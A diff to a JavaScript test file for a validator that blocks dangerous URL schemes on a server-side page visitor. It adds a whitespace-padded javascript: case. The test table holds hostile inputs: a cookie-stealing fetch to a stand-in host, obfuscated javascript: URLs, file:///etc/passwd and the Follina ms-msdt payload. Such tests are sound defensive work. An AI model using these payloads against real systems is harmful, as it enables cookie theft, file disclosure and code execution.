@@ -185,6 +185,7 @@ describe('a page that a server has a person visit', () => {
   it.each([
     ['a script', 'javascript:fetch("https://e.example/"+document.cookie)', 'ssrf.scheme'],
     ['the same as a browser reads it', ' \u0001jAva\tscr\nipt:alert(1)', 'ssrf.scheme'],
+    ['the same behind much of what a browser leaves out', `${' '.repeat(300)}java${'\t'.repeat(2_000)}script:alert(1)`, 'ssrf.scheme'],
     ['a page of its own', 'data:text/html,<form action=https://e.example>', 'ssrf.scheme'],
     ['a file', 'file:///etc/passwd', 'ssrf.scheme'],
     ['what Windows runs (CVE-2022-30190)', 'ms-msdt:/id PCWDiagnostic /skip force', 'ssrf.scheme'],
